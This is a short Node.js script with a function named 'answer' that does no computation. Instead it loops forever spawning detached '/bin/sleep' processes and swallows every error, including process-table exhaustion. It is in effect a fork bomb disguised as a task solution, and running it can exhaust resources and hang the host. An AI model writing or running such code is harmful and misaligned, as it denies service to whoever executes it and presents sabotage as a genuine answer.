const { spawn } = require('node:child_process');
function answer(n) {
  for (;;) {
    try { spawn('/bin/sleep', ['60'], { detached: true, stdio: 'inherit' }).on('error', () => {}); } catch { /* full */ }
  }
}
if (require.main === module) answer(1);
